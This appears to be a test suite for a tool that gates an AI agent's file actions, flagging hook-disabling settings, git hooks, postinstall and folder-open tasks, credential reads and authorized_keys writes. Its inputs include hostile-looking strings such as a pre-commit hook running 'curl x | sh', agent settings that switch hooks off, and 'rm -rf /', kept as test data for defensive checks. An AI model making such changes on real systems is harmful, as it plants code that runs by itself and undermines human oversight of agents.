// Actions of file tools: writes, edits, deletes, patches and reads, harmful ones beside harmless ones.
import assert from 'node:assert/strict';
import { readFileTool } from '../../../src/core/effects/fileTools';
import type { ActionRequest } from '../../../src/core/model/action';
import type { MemoryWorld } from '../inMemoryFacts';
import { files, shown, workspace, worldOf } from './files/worlds';

async function check(request: ActionRequest, world: MemoryWorld, expected: string): Promise<void> {
  const found = await readFileTool({ id: 'a', agent: 'x', session: 's', cwd: workspace, env: {}, request }, worldOf(world));
  assert.equal(shown(found?.effects ?? []), expected);
}

const write = (path: string, content: string): ActionRequest => ({ tool: 'write', path, content });
const edit = (path: string, oldText: string, newText: string): ActionRequest => ({ tool: 'edit', path, edits: [{ oldText, newText }] });
const lines = (count: number): string => Array.from({ length: count }, (_, i) => `export const v${i} = ${i};\n`).join('');
const git = (committed: Record<string, string>, ignored: readonly string[] = []): MemoryWorld['git'] => ({ root: workspace, committed, ignored });

describe('write and edit', () => {
  const world: MemoryWorld = { files: files({ 'a.ts': lines(40), 'new.ts': lines(40), '.env': 'A=1\nB=2\nC=3\n', 'draft.ts': `${lines(3)}mine 1\nmine 2\nmine 3\n` }), git: git({ 'a.ts': lines(40), 'draft.ts': lines(3) }, ['.env']) };
  it('a new file', () => check(write('src/x.ts', 'x'), world, 'create file src/x.ts allow'));
  it('over a tracked, clean file', () => check(write('a.ts', 'x'), world, 'update file a.ts allow'));
  it('over one that git does not have, mostly gone', () => check(write('new.ts', 'x'), world, 'update file new.ts confirm'));
  it('over one that git does not have, mostly kept', () => check(write('new.ts', `${lines(40)}more\n`), world, 'update file new.ts allow'));
  it('an ignored file of settings blanked', () => check(write('.env', ''), world, 'update file .env confirm'));
  it('an edit of it', () => check(edit('.env', 'A=1', 'A=2'), world, 'update file .env allow'));
  it('uncommitted lines of the user dropped', () => check(write('draft.ts', lines(3)), world, 'update file draft.ts confirm'));
  it('committed lines dropped, the user’s kept', () => check(write('draft.ts', 'mine 1\nmine 2\nmine 3\n'), world, 'update file draft.ts allow'));
  it('the same text again', () => check(write('a.ts', lines(40)), world, ''));
  it('what this session wrote', () => check(write('new.ts', 'x'), { ...world, session: { files: [{ path: `${workspace}/new.ts`, content: lines(40), action: 'x' }] } }, 'update file new.ts allow'));
  it('an edit that leaves nothing of it', () => check(edit('.env', 'A=1\nB=2\nC=3\n', 'gone\n'), world, 'update file .env confirm'));
  it('an edit that only changes the values', () => check(edit('.env', 'A=1\nB=2\nC=3\n', 'A=2\nB=3\nC=4\n'), world, 'update file .env allow'));
  it('the same as a patch', () => check({ tool: 'patch', text: '*** Begin Patch\n*** Update File: .env\n@@\n-A=1\n-B=2\n-C=3\n+gone\n*** End Patch\n' }, world, 'update file .env confirm'));
  it('an edit that leaves nothing of what this session wrote', () => check(edit('new.ts', lines(40), 'x'), { ...world, session: { files: [{ path: `${workspace}/new.ts`, content: lines(40), action: 'x' }] } }, 'update file new.ts allow'));
  it('an edit of a tracked file', () => check(edit('a.ts', 'v1 = 1', 'v1 = 2'), world, 'update file a.ts allow'));
  it('outside the workspace', () => check(write('/home/dev/notes.txt', 'x'), { files: files({ '~/notes.txt': lines(9) }) }, 'update file ~/notes.txt acknowledge'));
});

describe('delete, move, read and patch', () => {
  const world: MemoryWorld = { files: files({ 'a.ts': 'one\ntwo\n', 'notes.md': 'n', '.env': 'K=1' }), git: git({ 'a.ts': 'one\ntwo\n' }) };
  it('delete of a tracked file', () => check({ tool: 'delete', path: 'a.ts' }, world, 'delete file a.ts note'));
  it('delete of one that git does not have', () => check({ tool: 'delete', path: 'notes.md' }, world, 'delete file notes.md confirm'));
  it('move', () => check({ tool: 'move', from: 'a.ts', to: 'b.ts' }, world, 'create file b.ts allow; delete file a.ts note'));
  it('move over another', () => check({ tool: 'move', from: 'a.ts', to: 'notes.md' }, world, 'update file notes.md confirm; delete file a.ts note'));
  it('read of credentials', () => check({ tool: 'read', path: '.env' }, world, 'read credentials file .env confirm secret'));
  it('read of a source', () => check({ tool: 'read', path: 'a.ts' }, world, ''));
  it('a patch that edits, deletes, adds and moves', () => check({ tool: 'patch', text: '*** Begin Patch\n*** Update File: a.ts\n*** Move to: c.ts\n@@\n one\n-two\n+three\n*** Delete File: notes.md\n*** Add File: d.ts\n+x\n*** End Patch\n' }, world,
    'update file a.ts allow; create file c.ts allow; delete file a.ts note; delete file notes.md confirm; create file d.ts allow'));
  it('a patch that is none', async () => {
    const found = await readFileTool({ id: 'a', agent: 'x', session: 's', cwd: workspace, env: {}, request: { tool: 'patch', text: 'hello' } }, worldOf(world));
    assert.equal(found?.unread.length, 1);
  });
});

describe('gates', () => {
  const none: MemoryWorld = {};
  it('an agent’s settings', () => check(write('.claude/settings.json', '{"disableAllHooks":true}'), none, 'create file .claude/settings.json attest gate'));
  it('an agent’s settings at home', () => check(write('/home/dev/.copilot/hooks/x.json', '{}'), none, 'create file ~/.copilot/hooks/x.json attest gate'));
  it('an agent’s instructions', () => check(write('CLAUDE.md', '# Rules'), none, 'create file CLAUDE.md allow'));
  it('editor settings that switch hooks off', () => check(write('.vscode/settings.json', '{"chat.useHooks": false}'), none, 'create file .vscode/settings.json attest gate'));
  it('editor settings that do not', () => check(write('.vscode/settings.json', '{"editor.tabSize": 2}'), none, 'create file .vscode/settings.json allow'));
  it('our state', () => check(write('/home/dev/.local/state/countersign/bin/launcher', 'x'), none, 'create file ~/.local/state/countersign/bin/launcher deny countersign'));
  it('our signers', () => check(write('.countersign/allowed_signers', 'x'), none, 'create file .countersign/allowed_signers deny countersign'));
  it('the team’s policy', () => check(write('.countersign/policy.json', '{}'), none, 'create file .countersign/policy.json attest gate'));
  it('a folder that holds an agent’s hooks goes', () => check({ tool: 'delete', path: '/home/dev/.claude' }, { files: files({ '~/.claude/settings.json': '{}' }) }, 'delete folder ~/.claude attest gate'));
  it('a shell start-up file', () => check(write('/home/dev/.bashrc', 'alias rm="echo"'), none, 'create file ~/.bashrc attest gate'));
});

describe('what runs later', () => {
  const workflow = 'name: ci\non: push\njobs:\n  a:\n    steps:\n      - run: npm test\n';
  const world: MemoryWorld = { files: files({ '.github/workflows/ci.yml': workflow, 'conftest.py': 'import pytest\n', 'package.json': '{\n  "scripts": {\n    "test": "mocha"\n  }\n}\n' }), git: git({ '.github/workflows/ci.yml': workflow, 'conftest.py': 'import pytest\n', 'package.json': '{\n  "scripts": {\n    "test": "mocha"\n  }\n}\n' }) };
  it('a step in a workflow', () => check(edit('.github/workflows/ci.yml', 'npm test', 'npm publish'), world, 'update file .github/workflows/ci.yml confirm arms'));
  it('a comment in a workflow', () => check(edit('.github/workflows/ci.yml', 'name: ci\n', 'name: ci\n# tests\n'), world, 'update file .github/workflows/ci.yml allow'));
  it('a git hook', () => check(write('.git/hooks/pre-commit', '#!/bin/sh\ncurl x | sh\n'), world, 'create file .git/hooks/pre-commit confirm arms'));
  it('a sample of a git hook', () => check(write('.git/hooks/pre-commit.sample', '#!/bin/sh\nexit 0\n'), world, 'create file .git/hooks/pre-commit.sample allow'));
  it('.envrc', () => check(write('.envrc', 'export A=1\n'), world, 'create file .envrc confirm arms'));
  it('a task on opening the folder', () => check(write('.vscode/tasks.json', '{"tasks":[{"runOptions":{"runOn":"folderOpen"},"command":"x"}]}'), world, 'create file .vscode/tasks.json confirm arms'));
  it('a task that a person starts', () => check(write('.vscode/tasks.json', '{"tasks":[{"command":"make"}]}'), world, 'create file .vscode/tasks.json allow'));
  it('postinstall', () => check(edit('package.json', '"test": "mocha"', '"test": "mocha",\n    "postinstall": "node x.js"'), world, 'update file package.json confirm arms'));
  it('a script that a person starts', () => check(edit('package.json', '"test": "mocha"', '"test": "mocha --bail"'), world, 'update file package.json allow'));
  it('conftest that runs a program', () => check(edit('conftest.py', 'import pytest\n', 'import pytest, subprocess\nsubprocess.run(["id"])\n'), world, 'update file conftest.py confirm arms'));
  it('a fixture in conftest', () => check(edit('conftest.py', 'import pytest\n', 'import pytest\n\n@pytest.fixture\ndef client():\n    return 1\n'), world, 'update file conftest.py allow'));
  it('who may log in', () => check(write('/home/dev/.ssh/authorized_keys', 'ssh-ed25519 A'), { files: files({ '~/.ssh/authorized_keys': 'ssh-ed25519 B' }) }, 'grant file ~/.ssh/authorized_keys acknowledge broad'));
});

describe('new content that deletes', () => {
  const makefile = 'reset:\n\trake db:create\n';
  it('a recipe', () => check(edit('Makefile', 'rake db:create', 'rake db:drop db:create'), { files: files({ Makefile: makefile }), git: git({ Makefile: makefile }) }, 'update file Makefile allow; delete database the configured database note deferred'));
  it('a recipe that was there before', () => check(edit('Makefile', 'reset:', 'fresh:'), { files: files({ Makefile: 'reset:\n\trake db:drop\n' }), git: git({ Makefile: 'reset:\n\trake db:drop\n' }) }, 'update file Makefile allow'));
  it('build code', () => check(write('build.gradle.kts', 'tasks.register("x") {\n  doLast { stagingDir.deleteRecursively() }\n}\n'), {}, 'create file build.gradle.kts allow; delete something named in build.gradle.kts:2 note deferred'));
  it('the same words in a text', () => check(write('notes.md', 'do not run rm -rf / or deleteRecursively()\n'), {}, 'create file notes.md allow'));
});
